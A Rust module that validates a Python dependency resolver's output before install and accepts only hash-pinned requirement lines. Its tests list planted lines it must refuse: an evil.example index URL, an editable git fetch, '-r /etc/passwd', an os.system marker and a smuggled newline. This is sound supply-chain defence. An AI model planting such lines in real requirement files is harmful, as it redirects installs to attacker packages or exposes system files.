//! The resolution a prepare installs from, checked before anything trusts it.
//!
//! Resolving can run package build scripts (an sdist without static metadata), so it runs
//! with a private cache and writes `uv pip compile --generate-hashes` output into a scratch
//! directory those scripts can also write. What comes back is therefore untrusted text: only
//! requirement lines (`name==version` or `name @ url`, an optional environment marker, and
//! `--hash=sha256:...` options) pass, rewritten one per line; an option line (`--index-url`,
//! `-r`, `-e`, `--find-links`, ...) or anything else fails the prepare.

use std::fmt::Write as _;

/// One pinned requirement of a resolution.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Pinned {
    /// `name==version` or `name @ url`, with its marker if any, as uv printed it.
    pub(crate) requirement: String,
    /// sha256 digests, lower-case hex.
    pub(crate) hashes: Vec<String>,
}

/// Pure: the pinned requirements of `uv pip compile` output, or why it is not one.
pub(crate) fn parse(text: &str) -> Result<Vec<Pinned>, String> {
    let mut out = Vec::new();
    let mut logical = String::new();
    let mut lines = text.lines().enumerate().peekable();
    while let Some((number, line)) = lines.next() {
        let (body, continued) = match line.trim_end().strip_suffix('\\') {
            Some(body) => (body, true),
            None => (line, false),
        };
        logical.push_str(body);
        logical.push(' ');
        if continued && lines.peek().is_some() {
            continue;
        }
        let entry = std::mem::take(&mut logical);
        let entry = entry.trim();
        if entry.is_empty() || entry.starts_with('#') {
            continue;
        }
        out.push(parse_entry(entry).map_err(|e| format!("line {}: {e}: {entry:?}", number + 1))?);
    }
    Ok(out)
}

fn parse_entry(entry: &str) -> Result<Pinned, String> {
    let mut words = entry.split_whitespace().peekable();
    let mut requirement = String::new();
    while let Some(word) = words.next_if(|w| !w.starts_with("--hash=")) {
        if !requirement.is_empty() {
            requirement.push(' ');
        }
        requirement.push_str(word);
    }
    let mut hashes = Vec::new();
    for word in words {
        let hex = word
            .strip_prefix("--hash=sha256:")
            .filter(|h| h.len() == 64 && h.bytes().all(|b| b.is_ascii_hexdigit()))
            .ok_or("only `--hash=sha256:<64 hex digits>` may follow a requirement")?;
        hashes.push(hex.to_ascii_lowercase());
    }
    check_requirement(&requirement)?;
    Ok(Pinned { requirement, hashes })
}

fn check_requirement(requirement: &str) -> Result<(), String> {
    if requirement.starts_with('-') {
        return Err("an option line".to_owned());
    }
    let (spec, marker) = match requirement.split_once(';') {
        Some((spec, marker)) => (spec.trim(), Some(marker.trim())),
        None => (requirement.trim(), None),
    };
    let name_ok = |name: &str| {
        !name.is_empty()
            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b))
            && name.as_bytes()[0].is_ascii_alphanumeric()
    };
    let pinned = if let Some((name, url)) = spec.split_once(" @ ") {
        name_ok(name.trim()) && !url.trim().is_empty() && !url.trim().contains(char::is_whitespace)
    } else if let Some((name, version)) = spec.split_once("==") {
        name_ok(name)
            && !version.is_empty()
            && version.bytes().all(|b| b.is_ascii_alphanumeric() || b"._+!-".contains(&b))
    } else {
        false
    };
    if !pinned {
        return Err("not a pinned requirement (`name==version` or `name @ url`)".to_owned());
    }
    if let Some(marker) = marker {
        let safe = |b: u8| b.is_ascii_alphanumeric() || b" _.'\"<>=!~()-".contains(&b);
        if marker.is_empty() || !marker.bytes().all(safe) {
            return Err("an environment marker with unexpected characters".to_owned());
        }
    }
    Ok(())
}

/// Pure: the requirements file the install step reads, one checked entry per line.
pub(crate) fn render(pinned: &[Pinned]) -> String {
    let mut out = String::new();
    for p in pinned {
        out.push_str(&p.requirement);
        for hash in &p.hashes {
            let _ = write!(out, " --hash=sha256:{hash}");
        }
        out.push('\n');
    }
    out
}

/// Pure: the dependencies as a requirements file for the resolver. PEP 508 strings (checked by
/// `pep723-meta`) hold no newline; one that starts like an option would be read as one, so it
/// is refused here too.
pub(crate) fn requirements_in(dependencies: &[String]) -> Result<String, String> {
    let mut out = String::new();
    for dep in dependencies {
        let dep = dep.trim();
        if dep.is_empty() || dep.starts_with('-') || dep.contains(['\n', '\r', '\\']) {
            return Err(format!("dependency {dep:?} is not a PEP 508 requirement"));
        }
        out.push_str(dep);
        out.push('\n');
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    const H1: &str = "6b86b273ff34fce19d6b804eff5a3f5747ada4eaa22f1d49c01e52ddb7875b4b";
    const H2: &str = "D4735E3A265E16EEE03F59718B9B5D03019C07D8B6C51F90DA3A666EEC13AB35";

    #[test]
    fn uv_output_round_trips() {
        let text = format!(
            "# comment\nsix==1.16.0 \\\n    --hash=sha256:{H1} \\\n    --hash=sha256:{H2}\n\
             demo @ https://example.org/demo-1.0.tar.gz \\\n    --hash=sha256:{H1}\n\
             colorama==0.4.6 ; sys_platform == 'win32'\n"
        );
        let pinned = parse(&text).unwrap();
        insta::assert_snapshot!(render(&pinned), @r"
        six==1.16.0 --hash=sha256:6b86b273ff34fce19d6b804eff5a3f5747ada4eaa22f1d49c01e52ddb7875b4b --hash=sha256:d4735e3a265e16eee03f59718b9b5d03019c07d8b6c51f90da3a666eec13ab35
        demo @ https://example.org/demo-1.0.tar.gz --hash=sha256:6b86b273ff34fce19d6b804eff5a3f5747ada4eaa22f1d49c01e52ddb7875b4b
        colorama==0.4.6 ; sys_platform == 'win32'
        ");
    }

    /// What a build script could append to the resolver's output file: all refused.
    #[test]
    fn planted_lines_are_refused() {
        for bad in [
            "--index-url https://evil.example/simple",
            "--extra-index-url=https://evil.example/simple",
            "-r /etc/passwd",
            "-e git+https://evil.example/x",
            "--find-links /tmp",
            "six>=1.0",
            "six",
            "six==1.0 --no-binary six",
            "six==1.0 --hash=md5:abc",
            &format!("six==1.0 --hash=sha256:{}", &H1[..63]),
            "six==1.0 ; os.system('x') or True\x00",
            "x @ ",
            "-six==1",
        ] {
            assert!(parse(bad).is_err(), "{bad:?} passed");
        }
    }

    #[test]
    fn dependencies_that_read_as_options_are_refused() {
        assert_eq!(requirements_in(&["six".into(), "rich>=13".into()]).unwrap(), "six\nrich>=13\n");
        assert!(requirements_in(&["--index-url=https://x".into()]).is_err());
        assert!(requirements_in(&["six\n-r /etc/passwd".into()]).is_err());
    }
}
